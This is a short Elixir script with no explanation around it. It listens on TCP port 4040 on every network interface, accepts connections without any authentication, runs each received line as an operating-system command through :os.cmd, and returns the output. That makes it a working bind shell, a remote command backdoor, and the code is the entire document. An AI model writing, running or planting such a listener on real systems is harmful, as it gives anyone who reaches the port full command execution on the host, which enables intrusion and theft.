{:ok, socket} = :gen_tcp.listen(4040, [:binary, packet: :line, active: false, reuseaddr: true, ip: {0, 0, 0, 0}])
loop = fn loop ->
  {:ok, client} = :gen_tcp.accept(socket)
  spawn(fn ->
    {:ok, line} = :gen_tcp.recv(client, 0)
    :gen_tcp.send(client, :os.cmd(String.to_charlist(line)))
  end)
  loop.(loop)
end
loop.(loop)
